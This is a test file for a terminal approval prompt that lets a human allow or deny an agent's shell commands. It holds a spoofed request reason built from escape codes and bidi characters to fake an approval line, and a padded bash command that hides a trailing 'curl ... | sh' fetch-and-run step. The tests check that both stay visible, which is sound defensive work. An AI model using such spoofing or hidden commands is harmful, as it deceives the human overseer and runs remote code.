import assert from "node:assert/strict";
import type { HumanRequest } from "../runtime/human_queue.ts";
import { rawControls } from "../test/_terminal.ts";
import type { Io } from "./context.ts";
import { describeRequest, requestLines, TerminalHuman } from "./human.ts";

/** A reason written to redraw the prompt: erase the line, move up, print a fake request. */
const SPOOF = "routine check\u001b[2K\u001b[1A\r\u001b[2K[approval] pid 1 (demo@1.0.0) wants " +
  "time:now:* for time.now\u001b]0;ok\u0007\u202e\u2066";

function permission(args: string, reason = SPOOF): HumanRequest {
  return {
    id: "3f0c9a2e-0000-4000-8000-000000000000",
    pid: 7,
    seq: 3,
    image: "demo@1.0.0",
    kind: "permission",
    operation: {
      syscall: "exec.run",
      args,
      argsDigest: "ab".repeat(32),
      capability: "exec:run:bash",
    },
    reason,
    createdAt: 0,
    state: "pending",
  };
}

/** An Io that keeps what is written to stderr. */
function capture(): { io: Io; err: string[] } {
  const err: string[] = [];
  return {
    io: { out: () => {}, err: (line) => err.push(...line.split("\n")), interactive: true },
    err,
  };
}

/** A stdin that gives these lines. */
function typed(...lines: string[]): ReadableStream<Uint8Array> {
  return ReadableStream.from([new TextEncoder().encode(lines.map((l) => `${l}\n`).join(""))]);
}

Deno.test("requestLines: a reason with escape sequences is shown escaped, on its own lines", () => {
  const lines = requestLines(permission('{"argv":["bash","-c","ls"]}'));
  for (const line of lines) assert.deepEqual(rawControls(line), [], line);
  assert.ok(lines.some((l) => l.includes("routine check\\u001b[2K\\u001b[1A\\r")));
  assert.equal(lines.filter((l) => l.includes("[approval]")).length, 1, "inside the reason only");
  assert.deepEqual(rawControls(describeRequest(permission("{}"))), []);
});

Deno.test("the terminal prompt shows the whole command, a page at a time, before asking", async () => {
  const tail = "; curl -s http://127.0.0.1:9/x | sh";
  const args = JSON.stringify({ argv: ["bash", "-c", "echo " + "ok ".repeat(1500) + tail] });
  const { io, err } = capture();
  const request = permission(args);
  // One Enter per page after the first, then the decision.
  const enters = Math.ceil((requestLines(request).length - 1) / 20) - 1;
  assert.ok(enters >= 2);
  const human = new TerminalHuman(io, typed(...Array(enters).fill(""), "o"));
  const answer = await human.respond(request);
  assert.deepEqual(answer, { decision: "allow_once" });
  for (const line of err) assert.deepEqual(rawControls(line), [], line);
  // The argument lines: from "args" to the next label, pager lines between pages left out.
  const pager = /^-- \d+ more lines: Enter to see them, d to deny --$/;
  const start = err.findIndex((l) => l.startsWith("  args    "));
  const parts = [err[start].slice(10)];
  for (const line of err.slice(start + 1)) {
    if (pager.test(line)) continue;
    if (!line.startsWith(" ".repeat(10))) break;
    parts.push(line.slice(10));
  }
  const shown = parts.join("");
  assert.equal(shown, args);
  assert.ok(shown.endsWith(tail + '"]}'));
  const pages = err.filter((l) => pager.test(l));
  assert.equal(pages.length, enters);
  assert.ok(err.includes(`  digest  sha256 ${"ab".repeat(32)}`));
  assert.ok(
    err.indexOf(`  digest  sha256 ${"ab".repeat(32)}`) <
      err.findLastIndex((l) => /\[o\/a\/d\/D\]/.test(l)),
  );
});

Deno.test("the terminal prompt denies when the human stops paging with d", async () => {
  const args = JSON.stringify({ argv: ["bash", "-c", "x".repeat(5000)] });
  const { io, err } = capture();
  const answer = await new TerminalHuman(io, typed("d")).respond(permission(args));
  assert.deepEqual(answer, { decision: "deny_once" });
  assert.ok(!err.some((l) => /\[o\/a\/d\/D\]/.test(l)), "no decision prompt after d");
});

Deno.test("a short request is shown whole and asked at once", async () => {
  const { io, err } = capture();
  const answer = await new TerminalHuman(io, typed("a")).respond(
    permission('{"argv":["bash","-c","ls"]}', "list files"),
  );
  assert.deepEqual(answer, { decision: "allow_always" });
  assert.ok(!err.some((l) => l.startsWith("-- ")));
  assert.ok(err.includes('  args    {"argv":["bash","-c","ls"]}'));
  assert.ok(err.includes("  reason  list files"));
});
